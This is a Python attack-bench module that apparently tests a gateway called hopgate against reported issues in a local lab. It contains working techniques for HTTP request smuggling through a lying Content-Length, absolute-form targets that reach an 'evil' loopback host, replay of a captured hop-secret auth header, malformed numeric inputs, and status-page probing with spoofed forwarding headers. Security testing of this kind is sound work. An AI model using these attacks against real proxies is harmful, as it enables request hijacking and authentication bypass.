"""Issue 7 items 1 and 5-7 for ``bench/attacks.py``: requests the gateway misreads.

Smuggling through an OPEN's lying ``Content-Length``, absolute-form and odd
targets, bad numbers, a replayed hop-secret header, status page details.
Each attack returns a ``Row``.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import sys
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from attack_lab import (  # noqa: E402
    Ctx,
    Row,
    get_status,
    raw,
)

from tests.hostile import payloads  # noqa: E402
from tests.hostile import peer as hp  # noqa: E402
from tests.processes import (  # noqa: E402
    auth_header_in_tree,
)
from tests.status_page import warm_until_hop  # noqa: E402


async def attack_smuggle(ctx: Ctx) -> Row:
    """Item 1: an OPEN's lying Content-Length poisons the pooled upstream connection."""
    lab = ctx.lab
    gw = lab.sidecar()
    await lab.seen(ctx.http)
    bad = 0
    forged_answers = []
    async with hp.HostilePeer(gw.url) as peer:
        for i in range(5):
            sid = peer.sid()
            await peer.send(
                hp.open_http(sid, "GET", f"/forged{i}", [("Host", "x"), ("Content-Length", "60")])
            )
            stream = await peer.complete(sid, 5)
            forged_answers.append(
                "reset" if stream.reset else (stream.head[2] if stream.head else "none")
            )
            status, _ = await get_status(ctx.http, gw.url + f"/legit{i}")
            bad += status == 400
        await asyncio.sleep(0.3)
        first_seen = await lab.seen(ctx.http)
        # A request of our choosing: A declares a length equal to the head the
        # gateway writes for B, so the origin takes B's head as A's body and
        # parses B's body (ours) as the next request.
        await asyncio.sleep(0.5)
        await lab.seen(ctx.http)
        await payloads.send_carrier(peer)
        probe = [e for e in await lab.seen(ctx.http) if e["path"] == "/carrier"]
        head_len = probe[0]["head_len"] if probe else 200
        for _ in range(3):
            sid = peer.sid()
            await peer.send(
                hp.open_http(sid, "GET", "/a", [("Host", "x"), ("Content-Length", str(head_len))])
            )
            await peer.complete(sid, 5)
            await payloads.send_carrier(peer)
        await asyncio.sleep(0.3)
    seen = await lab.seen(ctx.http)
    smug = [e for e in seen if e["path"] == "/smuggled"]
    lying = [
        e for e in first_seen if e["path"].startswith("/forged") and e["cl"] not in (None, "0")
    ]
    if smug:
        e = smug[0]
        smug_txt = f"yes (Host {e['host']}, X-Forwarded-For {e['xff']}, Via {e['via'] or 'none'})"
    else:
        smug_txt = "no"
    return Row(
        "smuggle",
        "tunnel OPEN with forged Content-Length",
        f"forged CL 60, following legit requests answered 400: {bad}/5; forged streams: "
        f"{','.join(map(str, forged_answers))}; origin got lying CL: {len(lying)}; "
        f"OPEN declaring CL = length of the next head: attacker's request reached the origin: "
        f"{smug_txt}",
        {"legit_400": bad, "smuggled": bool(smug), "lying_cl_at_origin": len(lying)},
    )


async def attack_host_confusion(ctx: Ctx) -> Row:
    """Item 5: absolute targets the edge does not recognise, built by concatenation."""
    lab = ctx.lab
    results = []
    numbers: dict[str, Any] = {}
    # (upstream, target): the issue's case and resolvable cousins of it.
    cases = [
        ("http://v", f"m://127.0.0.1:{lab.evil_port}/leak"),
        # the same concatenation with a name that resolves here: host "localhost", port 80
        ("http://localhos", f"t://127.0.0.1:{lab.evil_port}/leak"),
        (lab.origin_url, f"m://127.0.0.1:{lab.evil_port}/leak"),
        (lab.origin_url, f"HTTP://127.0.0.1:{lab.evil_port}/leak"),
    ]
    await lab.seen(ctx.http)
    for upstream, target in cases:
        gw = lab.gateway("server", "--upstream", upstream)
        answer = await raw(gw.port, f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), 5)
        gw.stop()
        seen = await lab.seen(ctx.http)
        evil = [e for e in seen if e["site"].startswith("evil")]
        connected = f"yes ({evil[0]['site']} got {evil[0]['path']})" if evil else "no"
        results.append(
            f"GET {target.replace(str(lab.evil_port), 'PORT')} with --upstream "
            f"{upstream.replace(str(lab.origin_port), 'ORIGIN')}: {hp.status_of(answer)}, "
            f"reached another host: {connected}"
        )
        numbers[f"{upstream} {target}"] = {"status": hp.status_of(answer), "evil": bool(evil)}
    return Row("host_confusion", "absolute-form targets at a sidecar", "; ".join(results), numbers)


async def attack_status_confusion(ctx: Ctx) -> Row:
    lab = ctx.lab
    gw = lab.sidecar()
    answer = await raw(gw.port, b"GET HTTP://evil/.hopgate/status HTTP/1.1\r\nHost: evil\r\n\r\n")
    answered = hp.status_of(answer) == 200 and b'"version"' in answer
    await lab.seen(ctx.http)
    opt = await raw(gw.port, b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n")
    side_seen = await lab.seen(ctx.http)
    client = lab.gateway("client", "--upstream", lab.origin_url, "--upgrade", "never")
    opt_c = await raw(client.port, b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n")
    client_seen = await lab.seen(ctx.http)
    fwd = ", ".join(f"{e['method']} {e['path']}" for e in client_seen) or "nothing"
    side_fwd = ", ".join(f"{e['method']} {e['path']}" for e in side_seen) or "nothing"
    hop_client = lab.gateway("client", "--upstream", gw.url)
    with contextlib.suppress(Exception):
        await warm_until_hop(ctx.http, hop_client.url, timeout=10)
    await lab.seen(ctx.http)
    opt_h = await raw(hop_client.port, b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n")
    hop_seen = await lab.seen(ctx.http)
    hop_fwd = ", ".join(f"{e['method']} {e['path']}" for e in hop_seen) or "nothing"
    return Row(
        "status_confusion",
        "HTTP:// status and OPTIONS *",
        f"GET HTTP://evil/.hopgate/status answered by the status page: "
        f"{'yes' if answered else 'no'} ({hp.status_of(answer)}); OPTIONS * at a sidecar: "
        f"{hp.status_of(opt)} (origin saw {side_fwd}); at a client gateway: "
        f"{hp.status_of(opt_c)} (origin saw {fwd}); at a client gateway over a hop: "
        f"{hp.status_of(opt_h)} (origin saw {hop_fwd})",
        {
            "status_answered": answered,
            "options_sidecar": hp.status_of(opt),
            "options_client": hp.status_of(opt_c),
            "client_forwarded": fwd,
            "options_hop": hp.status_of(opt_h),
            "hop_forwarded": hop_fwd,
        },
    )


async def attack_bad_numbers(ctx: Ctx) -> Row:
    """Item 6: numbers that isdigit() accepts but int() rejects, and huge ones."""
    lab = ctx.lab
    gw = lab.sidecar("--hop-secret", "s3cret-hop-secret")
    out = []
    numbers: dict[str, Any] = {}
    for label, stamp in (("'²'", "²"), ("5000 digits", "9" * 5000)):
        answers = []
        for version, nonce in (("v1", ""), ("v2", " " + "0" * 32)):
            req = (
                f"POST {hp.SESSION_PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
                f"{hp.AUTH_HEADER}: {version} {stamp}{nonce} {'0' * 64}\r\n\r\n"
            ).encode()
            status = hp.status_of(await raw(gw.port, req))
            answers.append(f"{status} ({version})")
            numbers[f"stamp {label} {version}"] = status
        out.append(f"hop-secret time stamp {label}: {' / '.join(answers)}")
    gw.stop()
    gw = lab.sidecar()
    c = await hp.create_session(ctx.http, gw.url)
    for q in ("last=0&epoch=%C2%B2", "last=%C2%B2&epoch=1", "epoch=%C2%B2"):
        method = "POST" if q == "epoch=%C2%B2" else "GET"
        req = (
            f"{method} {hp.SESSION_PATH}/{c.session_id}?{q} HTTP/1.1\r\nHost: x\r\n"
            f"{hp.TOKEN_HEADER}: {c.token}\r\nContent-Length: 0\r\n\r\n"
        ).encode()
        status = hp.status_of(await raw(gw.port, req, 3))
        out.append(f"{method} ?{q}: {status}")
        numbers[q] = status
    return Row("bad_numbers", "bad numbers in headers and queries", "; ".join(out), numbers)


async def attack_replay(ctx: Ctx) -> Row:
    """Item 7: a captured hop-secret header opens a second session."""
    gw = ctx.lab.sidecar("--hop-secret", "s3cret-hop-secret")
    # The header a client gateway of the tree under test sends, captured once.
    made = auth_header_in_tree("s3cret-hop-secret", tree=ctx.lab.tree, python=ctx.lab.python)
    header = {hp.AUTH_HEADER: made}
    first = await hp.create_session(ctx.http, gw.url, header)
    second = await hp.create_session(ctx.http, gw.url, header)
    return Row(
        "replay",
        "captured hop-secret header replayed",
        f"captured hop-secret header: first use {first.status}, replayed {second.status}: "
        f"{'accepted' if second.status == 200 else 'refused'}",
        {"first": first.status, "replayed": second.status},
    )


async def attack_status_details(ctx: Ctx) -> Row:
    gw = ctx.lab.sidecar(listen="0.0.0.0:0")
    out = []
    numbers = {}
    probes = [
        ("loopback", gw.url, {}),
        ("X-Forwarded-For", gw.url, {"X-Forwarded-For": "203.0.113.9"}),
        ("Via", gw.url, {"Via": "1.1 proxy"}),
    ]
    ip = non_loopback_ip()
    if ip:
        probes.append(("non-loopback " + ip, f"http://{ip}:{gw.port}", {}))
    for label, url, headers in probes:
        status, body = await get_status(ctx.http, url + hp.STATUS_PATH, headers=headers)
        details = status == 200 and b"upstreams" in body
        out.append(f"{label}: {status} details {'yes' if details else 'no'}")
        numbers[label] = {"status": status, "details": details}
    return Row("status_details", "/.hopgate/status details", "; ".join(out), numbers)


def non_loopback_ip() -> str | None:
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))
        ip = s.getsockname()[0]
        if not ip.startswith("127."):
            return str(ip)
    return None
